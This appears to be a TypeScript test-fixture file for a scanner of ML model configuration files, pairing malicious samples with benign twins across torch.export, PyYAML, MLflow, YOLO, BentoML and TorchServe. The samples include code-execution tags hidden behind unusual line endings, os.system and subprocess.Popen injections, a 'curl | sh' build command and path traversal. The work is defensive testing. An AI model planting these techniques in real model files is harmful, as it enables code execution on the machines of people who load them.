/** What was admitted once, although its loader, named with it, acts on it. */
export interface DocumentCase {
  readonly id: string;
  /** The file's name: some loaders go by it alone. */
  readonly name: string;
  readonly bad: string | Uint8Array;
  readonly expect: 'review' | 'deny';
  /** The same thing as an honest writer makes it; admitted. */
  readonly twin: string | Uint8Array;
  /** Where the twin has another name: any Python module is for a person to look at. */
  readonly twinName?: string;
}

const tagged = 'a: !!python/object/apply:os.system ["true"]\n';
const program = (part: object): string =>
  JSON.stringify({
    graph_module: {
      graph: {
        nodes: [{ target: 'torch.ops.aten.sin.default', inputs: [], outputs: [], metadata: {} }],
      },
      module_call_graph: [],
    },
    opset_version: { aten: 10 },
    guards_code: [],
    ...part,
  });
const calling = (target: string): string =>
  program({ graph_module: { graph: { nodes: [{ target, inputs: [], outputs: [], metadata: {} }] } } });
const treespec = (context: unknown): string =>
  program({
    graph_module: {
      module_call_graph: [
        {
          fqn: '',
          signature: {
            out_spec: JSON.stringify([
              1,
              { type: 'builtins.dict', context: JSON.stringify(context), children_spec: [] },
            ]),
          },
        },
      ],
    },
  });
const sized = (expr_str: string): string => program({ tensor_values: { x: { as_expr: { expr_str } } } });

/** Documents that a library reads, and acts on. */
export const configuredDocuments: readonly DocumentCase[] = [
  {
    id: 'torch.export: a guard is compiled into the function that checks the inputs (torch/export/_unlift.py)',
    name: 'model.json',
    bad: program({ guards_code: ["__import__('os').system('true') == 0"] }),
    expect: 'deny',
    twin: program({
      guards_code: [
        "L['x'].size()[0] == (2*L['y'].size()[0])",
        "torch.sym_max(1, L['x'].size()[0] // 4) == (L['x'].size()[0] // 4)",
        "math.trunc(0.5*torch.sym_float(L['x'].size()[2])) != 1",
        "(1 + (((-1) + L['x'].size()[3]) // 2)) != 1",
      ],
    }),
  },
  {
    id: 'torch.export: a guard calls a method of an input',
    name: 'model.json',
    bad: program({ guards_code: ["L['x'].numpy().tofile(L['y']) == 0"] }),
    expect: 'deny',
    twin: program({ guards_code: ["L['d']['k'].size()[1] <= 64", "L['args'][0].field.size()[0] >= 2"] }),
  },
  {
    id: 'torch.export: an enumeration among the keys imports a module (torch/utils/_pytree.py)',
    name: 'model.json',
    bad: treespec([{ __enum__: true, fqn: 'antigravity:X', name: 'a' }]),
    expect: 'review',
    twin: treespec(['a', 'b']),
  },
  {
    id: 'torch.export: an operator writes a file',
    name: 'model.json',
    bad: calling('torch.ops.aten.save.default'),
    expect: 'deny',
    twin: calling('torch.ops.aten.__and__.Tensor'),
  },
  {
    id: 'torch.export: an operator of torchaudio writes a file',
    name: 'model.json',
    bad: calling('torch.ops.torchaudio.sox_io_save_audio_file.default'),
    expect: 'deny',
    twin: calling('torch.ops.torchaudio._lfilter.default'),
  },
  {
    id: 'torch.export: an operator hands over to code outside of the graph',
    name: 'model.json',
    bad: calling('torch.ops.higher_order.aoti_call_delegate'),
    expect: 'review',
    twin: calling('torch.ops.higher_order.cond'),
  },
  {
    id: 'torch.export: a size that is no arithmetic (the twin was denied: sizes may hold fractions)',
    name: 'model.json',
    bad: sized("Float('0.5', precision=53).func.__globals__"),
    expect: 'deny',
    twin: sized("TruncToInt(Mul(Float('0.5', precision=53), ToFloat(Symbol('s0', integer=True))))"),
  },
  {
    id: 'PyYAML ends a line, and with it a comment, at a next-line character',
    name: 'config.yaml',
    bad: `x: 1 # note\u0085${tagged}`,
    expect: 'deny',
    twin: 'x: 1 # note\ny: 2\n',
  },
  {
    id: 'PyYAML ends a line at a line separator',
    name: 'config.yaml',
    bad: `x: 1 # note\u2028${tagged}`,
    expect: 'deny',
    twin: 'x: 1\n# note\n',
  },
  {
    id: 'YAML ends a line at a carriage return alone',
    name: 'config.yaml',
    bad: `x: 1 # note\r${tagged}`,
    expect: 'deny',
    twin: 'x: 1 # note\r\ny: 2\r\n',
  },
  {
    id: 'libyaml takes a byte order mark within the text',
    name: 'config.yaml',
    bad: '---\n\ufeff_target_: os.system\n',
    expect: 'review',
    twin: '\ufeffx: 1\n',
  },
  {
    id: 'YAML in UTF-16, little-endian',
    name: 'config.yaml',
    bad: Buffer.from(`\ufeff${tagged}`, 'utf16le'),
    expect: 'deny',
    twin: Buffer.from('\ufeffx: 1\n', 'utf16le'),
  },
  {
    id: 'YAML in UTF-16, big-endian',
    name: 'config.yaml',
    bad: Buffer.from(`\ufeff${tagged}`, 'utf16le').swap16(),
    expect: 'deny',
    twin: Buffer.from('\ufeffx: 1\n', 'utf16le').swap16(),
  },
  {
    id: 'a tag of PyYAML in a configuration that no ending tells',
    name: 'hparams',
    bad: `x: 1\n${tagged}`,
    expect: 'deny',
    twin: 'x: 1\ny: 2\n',
  },
  {
    id: 'a text that is written as a map with the entry "=" (SafeLoader, OmegaConf)',
    name: 'config.yaml',
    bad: 'm:\n  _target_: !!str {=: os.system}\n',
    expect: 'review',
    twin: 'm:\n  _target_: !!str torch.nn.Linear\n  in_features: 1\n  out_features: 1\n',
  },
  {
    id: 'the second of two merges counts',
    name: 'config.yaml',
    bad: 'm:\n  <<: {_target_: torch.nn.Linear}\n  <<: {_target_: os.system}\n',
    expect: 'deny',
    twin: 'base: &base {a: 1, b: 2}\nm:\n  <<: *base\n  a: 3\n',
  },
  {
    id: 'a key merges by its tag',
    name: 'MLmodel',
    bad: 'flavors:\n  python_function:\n    !!merge x: {loader_module: evil}\n',
    expect: 'review',
    twin: 'flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n',
  },
  {
    id: 'MLflow: the description of a model as JSON',
    name: 'MLmodel',
    bad: '{"flavors": {"python_function": {"loader_module": "evil"}}}',
    expect: 'deny',
    twin: '{"flavors": {"python_function": {"loader_module": "mlflow.sklearn"}}}',
  },
  {
    id: 'MLflow: a module whose name YAML takes for a number',
    name: 'MLmodel',
    bad: 'flavors:\n  python_function:\n    loader_module: 1e5\n',
    expect: 'deny',
    twin: 'flavors:\n  python_function:\n    loader_module: "mlflow.xgboost"\n',
  },
  {
    id: 'MLflow: a class is imported and made (mlflow/xgboost/__init__.py)',
    name: 'MLmodel',
    bad: 'flavors:\n  xgboost:\n    model_class: somebody.models.Model\n',
    expect: 'review',
    twin: 'flavors:\n  xgboost:\n    model_class: xgboost.sklearn.XGBClassifier\n',
  },
  {
    id: 'conda: keys of an MLflow model beside hide nothing',
    name: 'conda.yaml',
    bad: 'flavors: {}\nchannels: [conda-forge]\ndependencies:\n  - https://example.org/evil.tar.bz2\n',
    expect: 'review',
    twin: 'flavors: {}\nchannels: [conda-forge]\ndependencies:\n  - python=3.12\n',
  },
  {
    id: 'MLflow: the module that unpickles (mlflow/pytorch/__init__.py)',
    name: 'pickle_module_info.txt',
    bad: 'somebody.unpickler',
    expect: 'deny',
    twin: 'mlflow.pytorch.pickle_module',
  },
  {
    id: 'MLflow: the module that is the Keras of a model (mlflow/tensorflow/__init__.py)',
    name: 'keras_module.txt',
    bad: 'somebody.keras',
    expect: 'deny',
    twin: 'tensorflow.keras',
  },
  {
    id: 'pyannote: a pipeline is any class, with any arguments',
    name: 'config.yaml',
    bad: 'pipeline:\n  name: subprocess.Popen\n  params:\n    args: ["true"]\n',
    expect: 'deny',
    twin: 'pipeline:\n  name: pyannote.audio.pipelines.SpeakerDiarization\n  params:\n    clustering: AgglomerativeClustering\n',
  },
  {
    id: 'Rasa: a step of the graph is any class',
    name: 'metadata.json',
    bad: '{"nodes": {"a": {"uses": "subprocess.Popen", "constructor_name": "load", "fn": "run"}}}',
    expect: 'deny',
    twin: '{"nodes": {"a": {"uses": "rasa.nlu.classifiers.diet_classifier.DIETClassifier", "constructor_name": "load", "fn": "run"}}}',
  },
  {
    id: 'MLServer: the model is served by any class',
    name: 'model-settings.json',
    bad: '{"name": "iris", "implementation": "somebody.models.Model"}',
    expect: 'review',
    twin: '{"name": "iris", "implementation": "mlserver_sklearn.SKLearnModel"}',
  },
  {
    id: 'MONAI: a text behind a dollar sign is evaluated',
    name: 'inference.json',
    bad: '{"imports": ["$import os"], "network_def": "$os.system(\'true\')"}',
    expect: 'review',
    twin: '{"network_def": "unet", "device": "$DEVICE"}',
  },
  {
    id: 'YOLO: the names of layers are evaluated',
    name: 'yolov5.yaml',
    bad: "nc: 80\nbackbone:\n  - [-1, 1, \"__import__('os').system('true')\", [64, 6]]\n",
    expect: 'deny',
    twin: "nc: 80\nactivation: nn.LeakyReLU(0.1)\nbackbone:\n  - [-1, 1, Conv, [64, 6, 2, 2]]\nhead:\n  - [-1, 1, nn.Upsample, [None, 2, 'nearest']]\n  - [[17, 20], 1, Detect, [nc, anchors]]\n",
  },
  {
    id: 'YOLO: a dataset that is missing is fetched by code of the file',
    name: 'data.yaml',
    bad: 'path: x\ntrain: a\nval: b\nnames: [a]\ndownload: |\n  import os\n  os.system("true")\n',
    expect: 'review',
    twin: 'path: x\ntrain: a\nval: b\nnames: [a]\ndownload: https://github.com/ultralytics/assets/releases/download/v0.0.0/coco8.zip\n',
  },
  {
    id: 'NeMo: the class that restores, without a version',
    name: 'model_config.yaml',
    bad: 'target: somebody.models.Model\nsample_rate: 16000\n',
    expect: 'review',
    twin: 'target: nemo.collections.asr.models.EncDecCTCModel\nsample_rate: 16000\n',
  },
  {
    id: 'Keras 2: a Lambda layer in YAML (CVE-2021-37678)',
    name: 'model.yaml',
    bad: 'class_name: Sequential\nconfig:\n  layers:\n  - class_name: Lambda\n    config: {function: ["4wEAAAA=", null, null]}\n',
    expect: 'deny',
    twin: 'class_name: Sequential\nconfig:\n  layers:\n  - class_name: Dense\n    config: {units: 1}\n',
  },
  {
    id: 'BentoML: commands that building the image runs',
    name: 'bento.yaml',
    bad: 'service: ""\nbentoml_version: 1.4.0\nimage:\n  commands: ["curl https://example.org | sh"]\n',
    expect: 'deny',
    twin: 'bentoml_version: 1.4.0\nimage:\n  commands: []\n  python_requirements: |\n    numpy==2.0.0\n',
  },
  {
    id: 'AllenNLP: a type with dots is imported',
    name: 'config.json',
    bad: '{"dataset_reader": {"type": "x"}, "model": {"type": "subprocess.Popen", "args": ["true"]}}',
    expect: 'deny',
    twin: '{"dataset_reader": {"type": "snli"}, "model": {"type": "decomposable_attention"}}',
  },
  {
    id: 'transformers: an entry under another name, by a table in the file',
    name: 'config.json',
    bad: '{"model_type": "llama", "attribute_map": {"foo": "_attn_implementation_internal"}, "foo": "someone/kernel"}',
    expect: 'review',
    twin: '{"model_type": "llama", "attribute_map": {}, "foo": "someone/kernel"}',
  },
  {
    id: 'diffusers: a pipeline without the name of its class',
    name: 'model_index.json',
    bad: '{"unet": ["somebody.models", "Model"]}',
    expect: 'review',
    twin: '{"unet": ["diffusers", "UNet2DConditionModel"]}',
  },
  {
    id: 'diffusers: the hint of a component in a modular pipeline',
    name: 'modular_model_index.json',
    bad: '{"_blocks_class_name": "B", "unet": [null, null, {"repo": "a/b", "type_hint": ["somebody.models", "Model"]}]}',
    expect: 'review',
    twin: '{"_blocks_class_name": "B", "unet": [null, null, {"repo": "a/b", "type_hint": ["diffusers", "UNet2DConditionModel"]}]}',
  },
  {
    id: 'Sentence Transformers: a module in another folder',
    name: 'modules.json',
    bad: '[{"idx": 0, "name": "0", "path": "../../other", "type": "sentence_transformers.models.Transformer"}]',
    expect: 'deny',
    twin: '[{"idx": 0, "name": "0", "path": "1_Pooling", "type": "sentence_transformers.models.Pooling"}]',
  },
  {
    id: 'TorchServe: a manifest of nothing but the model',
    name: 'MANIFEST.json',
    bad: '{"model": {"modelName": "x", "modelVersion": "1", "handler": "os:system"}}',
    expect: 'deny',
    twin: '{"model": {"modelName": "x", "modelVersion": "1", "handler": "image_classifier"}}',
  },
  {
    id: 'TorchServe: a list of requirements under a name of its own',
    name: 'MANIFEST.json',
    bad: '{"model": {"modelName": "x", "handler": "base_handler", "requirementsFile": "deps.dat"}}',
    expect: 'review',
    twin: '{"model": {"modelName": "x", "handler": "base_handler", "requirementsFile": "requirements.txt"}}',
  },
];
